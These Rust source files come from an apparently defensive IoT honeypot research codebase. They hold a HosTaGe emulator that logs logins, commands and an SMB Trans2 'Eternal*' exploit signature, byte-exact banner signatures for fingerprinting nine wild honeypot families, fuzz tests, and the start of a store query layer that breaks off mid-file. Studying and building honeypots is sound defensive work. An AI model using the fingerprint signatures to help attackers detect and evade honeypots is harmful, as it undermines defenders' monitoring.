/// The HosTaGe honeypot agent.
pub struct HosTaGeHoneypot {
    pub log: EventLog,
    telnet: LoginMachine,
    ssh: LoginMachine,
    conns: HashMap<ConnToken, (Protocol, SockAddr, Vec<u8>)>,
    /// Authenticated MQTT connections.
    mqtt_authed: HashMap<ConnToken, bool>,
    /// AMQP handshake progress.
    amqp_started: HashMap<ConnToken, bool>,
    gate: ConnGate,
}

impl Default for HosTaGeHoneypot {
    fn default() -> Self {
        Self::new()
    }
}

impl HosTaGeHoneypot {
    pub fn new() -> Self {
        let mut telnet = LoginMachine::new(2);
        telnet.accept_creds.push(("admin".into(), "admin".into()));
        let ssh = LoginMachine::new(2);
        HosTaGeHoneypot {
            log: EventLog::new("HosTaGe"),
            telnet,
            ssh,
            conns: HashMap::new(),
            mqtt_authed: HashMap::new(),
            amqp_started: HashMap::new(),
            gate: ConnGate::default(),
        }
    }

    /// Connections refused because the gate was full (flood shedding).
    pub fn shed_connections(&self) -> u64 {
        self.gate.shed()
    }

    fn coap_resources() -> Vec<LinkEntry> {
        vec![
            LinkEntry {
                path: "/sensors/smoke".into(),
                attrs: vec![("rt".into(), "smoke-sensor".into()), ("obs".into(), String::new())],
            },
            LinkEntry {
                path: "/sensors/temp".into(),
                attrs: vec![("rt".into(), "temperature".into())],
            },
        ]
    }
}

impl Agent for HosTaGeHoneypot {
    fn on_tcp_open(
        &mut self,
        ctx: &mut NetCtx<'_>,
        conn: ConnToken,
        local_port: u16,
        peer: SockAddr,
    ) -> TcpDecision {
        let protocol = match local_port {
            ports::TELNET | ports::TELNET_ALT => Protocol::Telnet,
            ports::MQTT => Protocol::Mqtt,
            ports::AMQP => Protocol::Amqp,
            ports::SSH => Protocol::Ssh,
            ports::HTTP => Protocol::Http,
            ports::SMB => Protocol::Smb,
            _ => return TcpDecision::Refuse,
        };
        if !self.gate.try_admit() {
            return TcpDecision::Refuse;
        }
        self.conns.insert(conn, (protocol, peer, Vec::new()));
        self.log.log(ctx.now(), protocol, peer.addr, peer.port, EventKind::Connection);
        match protocol {
            Protocol::Telnet => {
                self.telnet.open(conn);
                TcpDecision::accept_with(b"Arduino IoT Gateway\r\nlogin: ".to_vec())
            }
            Protocol::Ssh => {
                self.ssh.open(conn);
                TcpDecision::accept_with(b"SSH-2.0-OpenSSH_7.4 ArduinoIoT\r\n".to_vec())
            }
            _ => TcpDecision::accept(),
        }
    }

    fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, data: &Payload) {
        let Some((protocol, peer, _)) = self.conns.get(&conn).map(|(p, s, _)| (*p, *s, ())) else {
            return;
        };
        let now = ctx.now();
        match protocol {
            Protocol::Telnet | Protocol::Ssh => {
                if looks_like_binary(data) {
                    self.log.log(
                        now,
                        protocol,
                        peer.addr,
                        peer.port,
                        EventKind::PayloadDrop { payload: data.to_vec(), url: None },
                    );
                    return;
                }
                let cleaned = if protocol == Protocol::Telnet {
                    visible_text(data)
                } else {
                    data.to_vec()
                };
                let buf = &mut self.conns.get_mut(&conn).unwrap().2;
                buf.extend_from_slice(&cleaned);
                for line in drain_lines(buf) {
                    if line.is_empty() {
                        continue;
                    }
                    if line.starts_with("SSH-") {
                        ctx.tcp_send(conn, "KEXINIT\n"); // see cowrie.rs
                        continue;
                    }
                    let machine = if protocol == Protocol::Ssh { &mut self.ssh } else { &mut self.telnet };
                    // Simplified-SSH auth framing shared with Cowrie.
                    if protocol == Protocol::Ssh {
                        if let Some(rest) = line.strip_prefix("AUTH ") {
                            let mut it = rest.splitn(2, ' ');
                            let user = it.next().unwrap_or("").to_string();
                            let pass = it.next().unwrap_or("").to_string();
                            machine.feed(conn, &user);
                            if let LoginStep::Attempt { success, .. } = machine.feed(conn, &pass) {
                                self.log.log(
                                    now,
                                    protocol,
                                    peer.addr,
                                    peer.port,
                                    EventKind::LoginAttempt { username: user, password: pass, success },
                                );
                                ctx.tcp_send(conn, if success { "OK\n" } else { "DENIED\n" });
                            }
                            continue;
                        }
                    }
                    match machine.feed(conn, &line) {
                        LoginStep::Prompt(p) => ctx.tcp_send(conn, p),
                        LoginStep::Attempt { username, password, success } => {
                            self.log.log(
                                now,
                                protocol,
                                peer.addr,
                                peer.port,
                                EventKind::LoginAttempt { username, password, success },
                            );
                            ctx.tcp_send(conn, if success { "$ " } else { "login: " });
                        }
                        LoginStep::Command(cmd) => {
                            if let Some(url) = extract_url(&cmd) {
                                self.log.log(
                                    now,
                                    protocol,
                                    peer.addr,
                                    peer.port,
                                    EventKind::PayloadDrop { payload: Vec::new(), url: Some(url) },
                                );
                            }
                            self.log.log(
                                now,
                                protocol,
                                peer.addr,
                                peer.port,
                                EventKind::Command { line: cmd },
                            );
                            ctx.tcp_send(conn, "$ ");
                        }
                    }
                }
            }
            Protocol::Mqtt => {
                let buf = &mut self.conns.get_mut(&conn).unwrap().2;
                buf.extend_from_slice(data);
                loop {
                    let snapshot = self.conns.get(&conn).map(|(_, _, b)| b.clone()).unwrap_or_default();
                    let Ok((packet, used)) = Packet::decode(&snapshot) else { break };
                    self.conns.get_mut(&conn).unwrap().2.drain(..used);
                    match packet {
                        Packet::Connect { username, password, .. } => {
                            self.mqtt_authed.insert(conn, true);
                            if let (Some(u), Some(p)) = (username, password) {
                                self.log.log(
                                    now,
                                    protocol,
                                    peer.addr,
                                    peer.port,
                                    EventKind::LoginAttempt {
                                        username: u,
                                        password: String::from_utf8_lossy(&p).into_owned(),
                                        success: true,
                                    },
                                );
                            }
                            ctx.tcp_send(
                                conn,
                                Packet::ConnAck {
                                    session_present: false,
                                    return_code: ConnectReturnCode::Accepted,
                                }
                                .encode(),
                            );
                        }
                        Packet::Subscribe { packet_id, topics } => {
                            for (t, _) in &topics {
                                self.log.log(
                                    now,
                                    protocol,
                                    peer.addr,
                                    peer.port,
                                    EventKind::DataRead { target: t.clone() },
                                );
                            }
                            ctx.tcp_send(
                                conn,
                                Packet::SubAck { packet_id, return_codes: vec![0; topics.len().max(1)] }
                                    .encode(),
                            );
                        }
                        Packet::Publish { topic, .. } => {
                            self.log.log(
                                now,
                                protocol,
                                peer.addr,
                                peer.port,
                                EventKind::DataWrite { target: topic },
                            );
                        }
                        Packet::PingReq => ctx.tcp_send(conn, Packet::PingResp.encode()),
                        _ => {}
                    }
                    if self.conns.get(&conn).map_or(true, |(_, _, b)| b.is_empty()) {
                        break;
                    }
                }
            }
            Protocol::Amqp => {
                let started = self.amqp_started.get(&conn).copied().unwrap_or(false);
                if !started && data.starts_with(&PROTOCOL_HEADER) {
                    self.amqp_started.insert(conn, true);
                    let start = ConnectionStart {
                        version_major: 0,
                        version_minor: 9,
                        server_properties: vec![
                            ("product".into(), "RabbitMQ".into()),
                            ("version".into(), "2.7.1".into()),
                        ],
                        mechanisms: "ANONYMOUS PLAIN".into(),
                        locales: "en_US".into(),
                    };
                    ctx.tcp_send(
                        conn,
                        Frame {
                            frame_type: frame_type::METHOD,
                            channel: 0,
                            payload: start.encode_method(),
                        }
                        .encode(),
                    );
                } else if started {
                    // Publishes / floods: every frame is a data write.
                    let mut rest = data.as_slice();
                    while let Ok((_, used)) = Frame::decode(rest) {
                        self.log.log(
                            now,
                            protocol,
                            peer.addr,
                            peer.port,
                            EventKind::DataWrite { target: "amqp-queue".into() },
                        );
                        rest = &rest[used..];
                        if rest.is_empty() {
                            break;
                        }
                    }
                }
            }
            Protocol::Http => {
                if let Ok(req) = http::Request::parse(data) {
                    self.log.log(
                        now,
                        protocol,
                        peer.addr,
                        peer.port,
                        EventKind::HttpRequest { path: req.path.clone() },
                    );
                    let resp = http::Response::ok(
                        b"<html><title>Arduino IoT Gateway</title><form>login</form></html>".to_vec(),
                    )
                    .with_server("ArduinoWebServer/1.0");
                    ctx.tcp_send(conn, resp.render());
                }
            }
            Protocol::Smb => {
                if let Ok(msg) = SmbMessage::decode(data) {
                    let kind = if msg.command == smb_cmd::TRANS2 {
                        // The Eternal* exploit vector.
                        EventKind::ExploitSignature { name: "SMB Trans2 anomaly".into() }
                    } else {
                        EventKind::Datagram { len: data.len() }
                    };
                    self.log.log(now, protocol, peer.addr, peer.port, kind);
                    if msg.command == smb_cmd::NEGOTIATE {
                        // Answer the dialect negotiation so the exploit's
                        // second stage proceeds (that's the lure).
                        let resp = SmbMessage {
                            command: smb_cmd::NEGOTIATE,
                            status: 0,
                            flags2: msg.flags2,
                            mid: msg.mid,
                            data: vec![2, 0], // selected dialect index
                        };
                        ctx.tcp_send(conn, resp.encode());
                    }
                    if looks_like_binary(&msg.data) {
                        self.log.log(
                            now,
                            protocol,
                            peer.addr,
                            peer.port,
                            EventKind::PayloadDrop { payload: msg.data, url: None },
                        );
                    }
                }
            }
            _ => {}
        }
    }

    fn on_udp(&mut self, ctx: &mut NetCtx<'_>, local_port: u16, peer: SockAddr, payload: &Payload) {
        if local_port != ports::COAP {
            return;
        }
        let now = ctx.now();
        let Ok(req) = Message::decode(payload) else {
            self.log.log(
                now,
                Protocol::Coap,
                peer.addr,
                peer.port,
                EventKind::Datagram { len: payload.len() },
            );
            return;
        };
        if req.code == Code::GET && req.uri_path() == ".well-known/core" {
            self.log.log(now, Protocol::Coap, peer.addr, peer.port, EventKind::Discovery);
            let body = render_link_format(&Self::coap_resources());
            ctx.udp_send(local_port, peer, Message::content_response(&req, &body).encode());
        } else if matches!(req.code, Code::PUT | Code::POST) {
            self.log.log(
                now,
                Protocol::Coap,
                peer.addr,
                peer.port,
                EventKind::DataWrite { target: req.uri_path() },
            );
            let reply = Message {
                msg_type: MsgType::Acknowledgement,
                code: Code::CHANGED,
                message_id: req.message_id,
                token: req.token.clone(),
                options: vec![],
                payload: Vec::new(),
            };
            ctx.udp_send(local_port, peer, reply.encode());
        } else {
            self.log.log(
                now,
                Protocol::Coap,
                peer.addr,
                peer.port,
                EventKind::Datagram { len: payload.len() },
            );
        }
    }

    fn on_tcp_closed(&mut self, _ctx: &mut NetCtx<'_>, conn: ConnToken) {
        if let Some((protocol, _, _)) = self.conns.remove(&conn) {
            self.gate.release();
            match protocol {
                Protocol::Telnet => self.telnet.close(conn),
                Protocol::Ssh => self.ssh.close(conn),
                _ => {}
            }
        }
        self.mqtt_authed.remove(&conn);
        self.amqp_started.remove(&conn);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_net::{ip, SimNet, SimNetConfig, SimTime};

    struct Driver {
        dst: SockAddr,
        udp: Option<Vec<u8>>,
        tcp_script: Vec<Vec<u8>>,
        step: usize,
        got_udp: Vec<Vec<u8>>,
    }

    impl Agent for Driver {
        fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
            if let Some(p) = self.udp.take() {
                ctx.udp_send(41_000, self.dst, p);
            } else {
                ctx.tcp_connect(self.dst);
            }
        }
        fn on_tcp_established(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
            if self.step < self.tcp_script.len() {
                let m = self.tcp_script[self.step].clone();
                self.step += 1;
                ctx.tcp_send(conn, m);
            }
        }
        fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, _d: &Payload) {
            if self.step < self.tcp_script.len() {
                let m = self.tcp_script[self.step].clone();
                self.step += 1;
                ctx.tcp_send(conn, m);
            }
        }
        fn on_udp(&mut self, _c: &mut NetCtx<'_>, _p: u16, _peer: SockAddr, payload: &Payload) {
            self.got_udp.push(payload.to_vec());
        }
    }

    fn run(port: u16, udp: Option<Vec<u8>>, tcp_script: Vec<Vec<u8>>) -> (EventLog, Vec<Vec<u8>>) {
        let mut net = SimNet::new(SimNetConfig::default());
        let haddr = ip(16, 1, 0, 11);
        let hid = net.attach(haddr, Box::new(HosTaGeHoneypot::new()));
        let did = net.attach(
            ip(16, 1, 0, 98),
            Box::new(Driver {
                dst: SockAddr::new(haddr, port),
                udp,
                tcp_script,
                step: 0,
                got_udp: Vec::new(),
            }),
        );
        net.run_until(SimTime(120_000));
        let got_udp = net.agent_downcast::<Driver>(did).unwrap().got_udp.clone();
        let h = net.agent_downcast_mut::<HosTaGeHoneypot>(hid).unwrap();
        (std::mem::take(&mut h.log), got_udp)
    }

    #[test]
    fn coap_discovery_answered_and_logged() {
        let probe = Message::well_known_core_request(5).encode();
        let (log, replies) = run(5683, Some(probe), vec![]);
        assert!(log.events.iter().any(|e| matches!(e.kind, EventKind::Discovery)));
        let reply = Message::decode(&replies[0]).unwrap();
        assert!(String::from_utf8_lossy(&reply.payload).contains("smoke-sensor"));
    }

    #[test]
    fn coap_put_is_poisoning() {
        let mut put = Message::well_known_core_request(6);
        put.code = Code::PUT;
        let (log, _) = run(5683, Some(put.encode()), vec![]);
        assert!(log
            .events
            .iter()
            .any(|e| matches!(&e.kind, EventKind::DataWrite { .. })));
    }

    #[test]
    fn mqtt_connect_and_publish_logged() {
        let connect = Packet::Connect {
            client_id: "bot".into(),
            username: None,
            password: None,
            keep_alive: 0,
            clean_session: true,
        }
        .encode();
        let publish = Packet::Publish {
            topic: "arduino/state".into(),
            packet_id: None,
            payload: b"poison".to_vec(),
            qos: 0,
            retain: false,
        }
        .encode();
        let (log, _) = run(1883, None, vec![connect, publish]);
        assert!(log.events.iter().any(|e| e.protocol == Protocol::Mqtt
            && matches!(&e.kind, EventKind::DataWrite { target } if target == "arduino/state")));
    }

    #[test]
    fn smb_trans2_flagged_as_exploit() {
        let msg = SmbMessage {
            command: smb_cmd::TRANS2,
            status: 0,
            flags2: 0,
            mid: 1,
            data: b"exploit".to_vec(),
        };
        let (log, _) = run(445, None, vec![msg.encode()]);
        assert!(log.events.iter().any(|e| matches!(
            &e.kind,
            EventKind::ExploitSignature { name } if name.contains("Trans2")
        )));
    }

    #[test]
    fn http_request_logged_with_path() {
        let req = http::Request::get("/admin/login").render();
        let (log, _) = run(80, None, vec![req]);
        assert!(log.events.iter().any(|e| matches!(
            &e.kind,
            EventKind::HttpRequest { path } if path == "/admin/login"
        )));
    }

    #[test]
    fn amqp_handshake_then_flood_counts_writes() {
        let mut flood = Vec::new();
        for _ in 0..3 {
            flood.extend_from_slice(
                &Frame {
                    frame_type: frame_type::BODY,
                    channel: 1,
                    payload: b"x".to_vec(),
                }
                .encode(),
            );
        }
        let (log, _) = run(5672, None, vec![PROTOCOL_HEADER.to_vec(), flood]);
        let writes = log
            .events
            .iter()
            .filter(|e| e.protocol == Protocol::Amqp && matches!(e.kind, EventKind::DataWrite { .. }))
            .count();
        assert_eq!(writes, 3);
    }
}
