//! Wild honeypots — the nine fingerprintable families of Table 6.
//!
//! These are honeypots *other operators* run on the Internet. The paper's
//! scan would classify them as misconfigured IoT devices (they hand out
//! unauthenticated shells — that is their trap), so the methodology
//! fingerprints and filters them: 8,192 instances detected via static Telnet
//! banner signatures. Each emulator below reproduces its family's published
//! banner byte-for-byte as quoted in Table 6, plus the static-response
//! behaviour (identical output to any input) that multistage fingerprinting
//! exploits.

use ofh_net::Payload;
use ofh_net::{Agent, ConnToken, NetCtx, SockAddr, TcpDecision};
use ofh_wire::ports;
use serde::{Deserialize, Serialize};

/// The wild honeypot families of Table 6.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum WildHoneypot {
    HoneyPy,
    Cowrie,
    MTPot,
    TelnetIot,
    Conpot,
    Kippo,
    Kako,
    Hontel,
    Anglerfish,
}

impl WildHoneypot {
    /// All families, Table 6 order.
    pub const ALL: [WildHoneypot; 9] = [
        WildHoneypot::HoneyPy,
        WildHoneypot::Cowrie,
        WildHoneypot::MTPot,
        WildHoneypot::TelnetIot,
        WildHoneypot::Conpot,
        WildHoneypot::Kippo,
        WildHoneypot::Kako,
        WildHoneypot::Hontel,
        WildHoneypot::Anglerfish,
    ];

    pub const fn name(self) -> &'static str {
        match self {
            WildHoneypot::HoneyPy => "HoneyPy",
            WildHoneypot::Cowrie => "Cowrie",
            WildHoneypot::MTPot => "MTPot",
            WildHoneypot::TelnetIot => "Telnet IoT Honeypot",
            WildHoneypot::Conpot => "Conpot",
            WildHoneypot::Kippo => "Kippo",
            WildHoneypot::Kako => "Kako",
            WildHoneypot::Hontel => "Hontel",
            WildHoneypot::Anglerfish => "Anglerfish",
        }
    }

    /// The static banner signature from Table 6 (raw bytes; IAC sequences
    /// included where the family emits them).
    pub fn signature(self) -> &'static [u8] {
        match self {
            WildHoneypot::HoneyPy => b"Debian GNU/Linux 7\r\nLogin:",
            WildHoneypot::Cowrie => b"\xff\xfd\x1flogin:",
            WildHoneypot::MTPot => {
                b"\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03\xff\xfd\x18\r\nlogin:"
            }
            WildHoneypot::TelnetIot => {
                b"\xff\xfd\x01Login: Password: \r\nWelcome to EmbyLinux 3.13.0-24-generic\r\n #"
            }
            WildHoneypot::Conpot => b"Connected to [00:13:EA:00:00:00]",
            WildHoneypot::Kippo => b"SSH-2.0-OpenSSH_5.1p1 Debian-5",
            WildHoneypot::Kako => b"BusyBox v1.19.3 (2013-11-01 10:10:26 CST)",
            WildHoneypot::Hontel => b"BusyBox v1.18.4 (2012-04-17 18:58:31 CST)",
            WildHoneypot::Anglerfish => b"[root@LocalHost tmp]$",
        }
    }

    /// The port the signature is served on. Kippo is an SSH honeypot; all
    /// others speak Telnet.
    pub const fn port(self) -> u16 {
        match self {
            WildHoneypot::Kippo => ports::SSH,
            _ => ports::TELNET,
        }
    }

    /// Detected instance counts from Table 6.
    pub const fn paper_count(self) -> u64 {
        match self {
            WildHoneypot::HoneyPy => 27,
            WildHoneypot::Cowrie => 3_228,
            WildHoneypot::MTPot => 194,
            WildHoneypot::TelnetIot => 211,
            WildHoneypot::Conpot => 216,
            WildHoneypot::Kippo => 47,
            WildHoneypot::Kako => 16,
            WildHoneypot::Hontel => 12,
            WildHoneypot::Anglerfish => 4_241,
        }
    }

    /// Whether the family is open-source (footnote 1: Anglerfish is not; it
    /// was detected retrospectively from its mass of identical banners).
    pub const fn open_source(self) -> bool {
        !matches!(self, WildHoneypot::Anglerfish)
    }
}

impl std::fmt::Display for WildHoneypot {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name())
    }
}

/// Table 6 total.
pub const PAPER_TOTAL: u64 = 8_192;

/// A deployed instance of a wild honeypot family.
///
/// Its greeting is the family signature followed by an unauthenticated shell
/// prompt (the lure), and its response to *any* input is the same static
/// prompt — the "static response" tell that multistage fingerprinting
/// confirms with a second probe.
pub struct WildHoneypotAgent {
    pub family: WildHoneypot,
    /// Connections received (these hosts also attract bots; ground truth).
    pub connections: u64,
}

impl WildHoneypotAgent {
    pub fn new(family: WildHoneypot) -> Self {
        WildHoneypotAgent {
            family,
            connections: 0,
        }
    }

    fn greeting(&self) -> Vec<u8> {
        let mut g = self.family.signature().to_vec();
        if self.family != WildHoneypot::Kippo {
            // The shell lure: an unauthenticated prompt after the banner.
            // This is what makes wild honeypots look "misconfigured" to the
            // paper's Table 2 classifier.
            g.extend_from_slice(b"\r\n$ ");
        } else {
            g.extend_from_slice(b"\r\n");
        }
        g
    }
}

impl Agent for WildHoneypotAgent {
    fn on_tcp_open(
        &mut self,
        _ctx: &mut NetCtx<'_>,
        _conn: ConnToken,
        local_port: u16,
        _peer: SockAddr,
    ) -> TcpDecision {
        if local_port != self.family.port() {
            return TcpDecision::Refuse;
        }
        self.connections += 1;
        TcpDecision::accept_with(self.greeting())
    }

    fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, _data: &Payload) {
        // Static response: identical prompt no matter the input.
        ctx.tcp_send(conn, self.greeting());
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paper_counts_sum_to_8192() {
        let sum: u64 = WildHoneypot::ALL.iter().map(|w| w.paper_count()).sum();
        assert_eq!(sum, PAPER_TOTAL);
    }

    #[test]
    fn signatures_are_distinct() {
        for (i, a) in WildHoneypot::ALL.iter().enumerate() {
            for b in &WildHoneypot::ALL[i + 1..] {
                assert_ne!(a.signature(), b.signature(), "{a} vs {b}");
            }
        }
    }

    #[test]
    fn anglerfish_dominates() {
        // Table 6: Anglerfish (4,241) > Cowrie (3,228) >> everything else.
        let angler = WildHoneypot::Anglerfish.paper_count();
        let cowrie = WildHoneypot::Cowrie.paper_count();
        assert!(angler > cowrie);
        for w in WildHoneypot::ALL {
            if w != WildHoneypot::Anglerfish && w != WildHoneypot::Cowrie {
                assert!(w.paper_count() < cowrie);
            }
        }
    }

    #[test]
    fn only_anglerfish_is_closed_source() {
        assert!(!WildHoneypot::Anglerfish.open_source());
        assert!(WildHoneypot::ALL
            .iter()
            .filter(|w| !w.open_source())
            .count() == 1);
    }

    #[test]
    fn agent_serves_signature_and_static_response() {
        use ofh_net::{ip, SimNet, SimNetConfig, SimTime};

        struct Prober {
            dst: SockAddr,
            got: Vec<Vec<u8>>,
            poked: bool,
        }
        impl Agent for Prober {
            fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
                ctx.tcp_connect(self.dst);
            }
            fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, data: &Payload) {
                self.got.push(data.to_vec());
                if !self.poked {
                    self.poked = true;
                    ctx.tcp_send(conn, b"some random probe\n".to_vec());
                }
            }
        }
        let mut net = SimNet::new(SimNetConfig::default());
        let haddr = ip(16, 2, 0, 1);
        net.attach(haddr, Box::new(WildHoneypotAgent::new(WildHoneypot::Anglerfish)));
        let pid = net.attach(
            ip(16, 2, 0, 2),
            Box::new(Prober {
                dst: SockAddr::new(haddr, 23),
                got: Vec::new(),
                poked: false,
            }),
        );
        net.run_until(SimTime(30_000));
        let p = net.agent_downcast::<Prober>(pid).unwrap();
        assert_eq!(p.got.len(), 2);
        // Banner contains the signature…
        assert!(p.got[0]
            .windows(WildHoneypot::Anglerfish.signature().len())
            .any(|w| w == WildHoneypot::Anglerfish.signature()));
        // …and the static-response tell: second output identical to first.
        assert_eq!(p.got[0], p.got[1]);
    }

    #[test]
    fn kippo_serves_ssh_port() {
        assert_eq!(WildHoneypot::Kippo.port(), 22);
        assert!(WildHoneypot::Kippo.signature().starts_with(b"SSH-2.0-"));
    }
}
