//! Property tests for honeypot robustness: the deployed honeypots must
//! survive arbitrary byte streams on every port without panicking and
//! without ever initiating traffic (the A.3 sandbox property, fuzz-grade).

use ofh_honeypots::{
    ConpotHoneypot, CowrieHoneypot, DionaeaHoneypot, HosTaGeHoneypot, ThingPotHoneypot,
    UPotHoneypot,
};
use ofh_net::{ip, Agent, ConnToken, NetCtx, SimNet, SimNetConfig, SimTime, SockAddr};
use proptest::prelude::*;

/// Throws arbitrary bytes at one TCP port and one UDP port.
struct Fuzzer {
    dst: std::net::Ipv4Addr,
    tcp_port: u16,
    udp_port: u16,
    payloads: Vec<Vec<u8>>,
}

impl Agent for Fuzzer {
    fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
        for (i, p) in self.payloads.iter().enumerate() {
            if i % 2 == 0 {
                ctx.udp_send(47_000, SockAddr::new(self.dst, self.udp_port), p.clone());
            }
        }
        ctx.tcp_connect(SockAddr::new(self.dst, self.tcp_port));
    }
    fn on_tcp_established(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        for (i, p) in self.payloads.iter().enumerate() {
            if i % 2 == 1 {
                ctx.tcp_send(conn, p.clone());
            }
        }
    }
}

fn fuzz_honeypot(
    make: fn() -> Box<dyn Agent>,
    tcp_port: u16,
    udp_port: u16,
    payloads: Vec<Vec<u8>>,
) -> ofh_net::EgressStats {
    let mut net = SimNet::new(SimNetConfig::default());
    let haddr = ip(16, 70, 0, 1);
    let hid = net.attach(haddr, make());
    net.attach(
        ip(16, 70, 0, 2),
        Box::new(Fuzzer {
            dst: haddr,
            tcp_port,
            udp_port,
            payloads,
        }),
    );
    net.run_until(SimTime(120_000));
    net.egress_of(hid)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(16))]

    /// No deployed honeypot panics or initiates traffic under arbitrary
    /// input on its most complex ports.
    #[test]
    fn honeypots_survive_fuzz(
        payloads in prop::collection::vec(prop::collection::vec(any::<u8>(), 0..256), 1..8),
    ) {
        let cases: Vec<(fn() -> Box<dyn Agent>, u16, u16)> = vec![
            (|| Box::new(HosTaGeHoneypot::new()), 1_883, 5_683),
            (|| Box::new(HosTaGeHoneypot::new()), 5_672, 5_683),
            (|| Box::new(HosTaGeHoneypot::new()), 445, 5_683),
            (|| Box::new(CowrieHoneypot::new()), 23, 9),
            (|| Box::new(CowrieHoneypot::new()), 22, 9),
            (|| Box::new(ConpotHoneypot::new()), 102, 9),
            (|| Box::new(ConpotHoneypot::new()), 502, 9),
            (|| Box::new(ThingPotHoneypot::new()), 5_222, 9),
            (|| Box::new(DionaeaHoneypot::new()), 21, 9),
            (|| Box::new(UPotHoneypot::new()), 9, 1_900),
        ];
        for (make, tcp, udp) in cases {
            let egress = fuzz_honeypot(make, tcp, udp, payloads.clone());
            prop_assert_eq!(egress.tcp_initiated, 0);
            prop_assert_eq!(egress.udp_unsolicited, 0);
        }
    }
}
