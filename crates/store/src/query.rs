//! The concurrent query layer.
//!
//! [`StoreReader`] opens a segment file through one shared read-only
//! mapping and parses the metadata (TOC, dictionaries, zone maps, restart
//! directories) once; it is `Send + Sync`, so an `Arc<StoreReader>` fans
//! out across any number of query threads with zero per-thread state and
//! zero row copies — predicates run directly against the mapped bytes.
//!
//! Predicate pushdown: equality predicates on dictionary columns resolve
//! to bitmap AND + popcount (no row decode at all), point lookups on
//! zoned `U32` columns touch only blocks whose `[min, max]` admits the
//! value, and time-range scans over `T64` columns skip to the first
//! candidate restart block. A query that mentions a label the store never
//! saw short-circuits to zero without touching row data.
//!
//! [`QueryEngine`] adds a small LRU answer cache (answers are pure
//! functions of the store, so caching is transparent) behind a mutex —
//! the mutex guards only the cache; concurrent readers never serialize on
//! the scan path itself.

use std::collections::BTreeMap;
use std::fs::File;
use std::io;
use std::net::Ipv4Addr;
use std::path::Path;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Mutex;

use crate::bytes::{FormatError, Result};
use crate::column::DictView;
use crate::mmap::Mmap;
use crate::segment::{SegmentView, TableView};

/// A query against the store. `Ord` + a total field order make queries
/// usable as deterministic cache keys.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Query {
    /// Every scan record of one address, across all three sources.
    HostLookup { addr: Ipv4Addr },
    /// Scan records matching every given label (bitmap AND).
    CountScan {
        source: Option<String>,
        protocol: Option<String>,
        misconfig: Option<String>,
        country: Option<String>,
    },
    /// Attack events matching every given label (bitmap AND).
    CountEvents {
        honeypot: Option<String>,
        protocol: Option<String>,
        attack_type: Option<String>,
        class: Option<String>,
    },
    /// Attack events with `start_ms <= time < end_ms`, optionally
    /// restricted to one honeypot.
    EventsInRange {
        start_ms: u64,
        end_ms: u64,
        honeypot: Option<String>,
    },
    /// Telescope flows matching every given label (bitmap AND).
    CountTelescope {
        protocol: Option<String>,
        country: Option<String>,
    },
    /// Re-render a study table (4, 5 or 7) from the store.
    Table(u8),
    /// Store layout and provenance summary.
    Info,
}

/// One scan record, decoded for a point lookup.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HostHit {
    pub source: String,
    pub addr: Ipv4Addr,
    pub port: u16,
    pub protocol: String,
    pub misconfig: Option<String>,
    pub device: Option<String>,
    pub country: String,
    pub asn: Option<u32>,
    pub hp_filtered: bool,
}

/// A query result.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Answer {
    Hosts(Vec<HostHit>),
    Count(u64),
    Rendered(String),
}

impl Answer {
    /// Human-readable form (what the CLI prints).
    pub fn render(&self) -> String {
        match self {
            Answer::Count(n) => n.to_string(),
            Answer::Rendered(s) => s.clone(),
            Answer::Hosts(hits) if hits.is_empty() => "no records".to_string(),
            Answer::Hosts(hits) => {
                let mut out = String::new();
                for h in hits {
                    out.push_str(&format!(
                        "{src}: {addr}:{port} {proto} misconfig={mc} device={dev} country={cc} asn={asn} honeypot_filtered={hp}\n",
                        src = h.source,
                        addr = h.addr,
                        port = h.port,
                        proto = h.protocol,
                        mc = h.misconfig.as_deref().unwrap_or("-"),
                        dev = h.device.as_deref().unwrap_or("-"),
                        cc = h.country,
                        asn = h.asn.map(|a| a.to_string()).unwrap_or_else(|| "-".into()),
                        hp = h.hp_filtered,
                    ));
                }
                out
            }
        }
    }
}

/// The open store: one shared mapping plus parsed metadata.
pub struct StoreReader {
    map: Mmap,
    seg: SegmentView,
}

impl StoreReader {
    pub fn open(path: &Path) -> io::Result<StoreReader> {
        let file = File::open(path)?;
        let map = Mmap::map(&file)?;
        let seg = SegmentView::parse(&map)
            .map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e.to_string()))?;
        Ok(StoreReader { map, seg })
    }

    /// Parse an in-memory segment (tests; no file round-trip).
    pub fn from_bytes(bytes: Vec<u8>) -> Result<StoreReader> {
        let map = Mmap::Owned(bytes);
        let seg = SegmentView::parse(&map)?;
        Ok(StoreReader { map, seg })
    }

    /// The raw mapped bytes (pair with column views to read rows).
    pub fn bytes(&self) -> &[u8] {
        &self.map
    }

    /// Whether the file is served by a real kernel mapping.
    pub fn is_mapped(&self) -> bool {
        self.map.is_mapped()
    }

    pub fn table(&self, name: &str) -> Result<&TableView> {
        self.seg.table(name)
    }

    /// A `meta` table value ("seed", "shards", "format").
    pub fn meta(&self, key: &str) -> Option<&str> {
        let t = self.seg.table("meta").ok()?;
        let d = t.columns.get(key)?;
        match d {
            crate::segment::Column::Dict(v) => v.labels.first().map(String::as_str),
            _ => None,
        }
    }

    // -- executors ---------------------------------------------------------

    /// Resolve an optional label filter against a dictionary column:
    /// `Ok(None)` = no filter, `Ok(Some(code))` = filter by code,
